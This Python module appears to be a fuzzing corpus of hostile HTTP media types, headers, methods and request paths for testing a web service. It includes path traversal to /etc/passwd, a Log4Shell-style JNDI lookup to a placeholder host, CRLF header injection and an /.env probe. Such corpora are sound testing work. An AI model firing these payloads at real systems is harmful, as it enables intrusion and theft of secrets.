"""Hostile request lines and headers: media types, names and values of headers, methods, request targets.

`zqcanaryqz` is the placeholder of a run's canary.
"""

from typing import Final

TYPES: Final = (
    *(
        b"",
        b"text/plain",
        b"text/html",
        b"application/x-www-form-urlencoded",
        b"multipart/form-data; boundary=zqcanaryqz",
    ),
    *(
        b"multipart/form-data",
        b"application/jsonp",
        b"application/problem+json",
        b"application/vnd.zqcanaryqz+json",
        b"json",
    ),
    *(
        b"application/json; charset=utf-16",
        b"application/json; charset=zqcanaryqz",
        b"application/json;;;=",
        b"*/*",
        b";",
    ),
    *(b"application/json, zqcanaryqz", b"application/json\x0bzqcanaryqz", b'application/json; charset="', b"\xff/\xfe"),
)
HEADER_NAMES: Final = (
    *(
        b"Origin",
        b"Referer",
        b"Authorization",
        b"Idempotency-Key",
        b"X-Forwarded-For",
        b"Forwarded",
        b"X-Real-Ip",
        b"Cookie",
    ),
    *(
        b"User-Agent",
        b"Accept",
        b"Accept-Language",
        b"Accept-Encoding",
        b"Range",
        b"If-None-Match",
        b"If-Modified-Since",
    ),
    *(
        b"X-Request-Id",
        b"Traceparent",
        b"X-Http-Method-Override",
        b"Content-Encoding",
        b"X-Forwarded-Host",
        b"Host",
        b"TE",
    ),
    *(
        b"Access-Control-Request-Method",
        b"Access-Control-Request-Headers",
        b"Date",
        b"Via",
        b"X-Original-Url",
        b"zqcanaryqz",
    ),
)
HEADER_VALUES: Final = (
    *(
        b"",
        b"zqcanaryqz",
        b"null",
        b"*",
        b"\xff\xfe\x80zqcanaryqz",
        b"\tzqcanaryqz\t",
        b"zqcanaryqz, zqcanaryqz",
        b"%0d%0a",
    ),
    *(
        b"https://zqcanaryqz.example",
        b"https://shop.example.zqcanaryqz",
        b"https://shop.example, https://zqcanaryqz.example",
    ),
    *(
        b"Bearer",
        b"Bearer zqcanaryqz",
        b"Basic enFjYW5hcnlxeg==",
        b"Bearer \xd0\xbf",
        b"Bearer  " + b"zqcanaryqz" * 300,
    ),
    *(b'"zqcanaryqz"', b'"zqcanaryqz', b"\\ud800", b"1e999", b"-1", b"\xed\xa0\x80", b"zqcanaryqz" * 3000, b"," * 5000),
    *(
        b"127.0.0.1, [::1]:80, zqcanaryqz",
        b"for=zqcanaryqz;host=zqcanaryqz",
        b"bytes=0-zqcanaryqz",
        b"${jndi:ldap://zqcanaryqz}",
    ),
    *(
        b"POST",
        b"content-type,zqcanaryqz",
        b"gzip;q=zqcanaryqz",
        b"ru\xf6,zqcanaryqz",
        b'W/"zqcanaryqz", *',
        b"zqcanaryqz; \x1b[31m",
    ),
)
METHODS: Final = (
    *(b"GET", b"HEAD", b"POST", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE", b"PROPFIND", b"MKCOL", b"M-SEARCH"),
    *(b"SEARCH", b"PURGE", b"LOCK", b"REPORT", b"SUBSCRIBE", b"LINK"),
)
TARGETS: Final = (
    *(b"/", b"//", b"/%00", b"/%ff", b"/%zz", b"/%", b"/%2e%2e/%2e%2e/etc/passwd", b"/..;/zqcanaryqz", b"/zqcanaryqz"),
    *(
        b"/v1",
        b"/v1/",
        b"/v1//callbacks",
        b"/v1/callbacks/",
        b"/v1/callbacks%2f",
        b"/V1/CALLBACKS",
        b"/v1/callbacks;zqcanaryqz",
    ),
    *(
        b"/v1/callbacks?zqcanaryqz=%0d%0a",
        b"/v1/callbacks?site=shop&q=%ed%a0%80",
        b"/v1/callbacks?" + b"zqcanaryqz&" * 500,
    ),
    *(b"/v1/callbacks/zqcanaryqz", b"/v1/callbacks/%0d%0aSet-Cookie:zqcanaryqz", b"/v1/callbacks/%1b%5b31mzqcanaryqz"),
    *(
        b"/v1/callbacks/01a2079c-bf03-7387-8e96-29518fb1999%d9%a8",
        b"/v1/callbacks/" + b"9" * 8000,
        b"/v1/callbacks/%ed%a0%80",
    ),
    *(
        b"/v1/callbacks/00000000-0000-0000-0000-000000000000",
        b"/v1/callbacks/00000000-0000-0000-0000-000000000000/retry",
    ),
    *(
        b"/v1/sites/__proto__",
        b"/v1/sites/zqcanaryqz%0a%7b%22event%22:1%7d",
        b"/v1/sites/%f0%9f%98%80",
        b"/v1/sites/%00shop",
    ),
    *(
        b"/v1/sites/shop/",
        b"/v1/sites/shop?zqcanaryqz=1",
        b"/v1/sites/" + b"zqcanaryqz" * 700,
        b"/v1/sites/..%2fcallbacks",
    ),
    *(
        b"/v1/challenge",
        b"/v1/challenge?site=zqcanaryqz",
        b"/v1/challenge?site=%ed%a0%80",
        b"/v1/challenge?site=shop&site=zqcanaryqz",
    ),
    *(
        b"/widget/../app/main.py",
        b"/widget/x/..%2fapp%2fmain.py",
        b"/widget/zqcanaryqz/dialog.js%00",
        b"/widget/x/zqcanaryqz",
    ),
    *(
        b"/widget.js?zqcanaryqz",
        b"/widget.js/zqcanaryqz",
        b"/docs?zqcanaryqz",
        b"/docs/zqcanaryqz",
        b"/openapi.json?zqcanaryqz",
    ),
    *(
        b"/docs/oauth2-redirect?zqcanaryqz",
        b"/livez?zqcanaryqz",
        b"/readyz/zqcanaryqz",
        b"/metrics?zqcanaryqz",
        b"/.env",
    ),
    *(
        b"/v1/blocklist?zqcanaryqz=\xff",
        b"/\xd0\xbf\xd1\x80zqcanaryqz",
        b"http://zqcanaryqz.example/livez",
        b"/v1/websites",
    ),
    *(
        b"/v1/statistics?site_id=zqcanaryqz&date_from=1e999",
        b"/?" + b"\xff" * 2000,
        b"/" + b"zqcanaryqz" * 2000,
        b"/#zqcanaryqz",
    ),
)
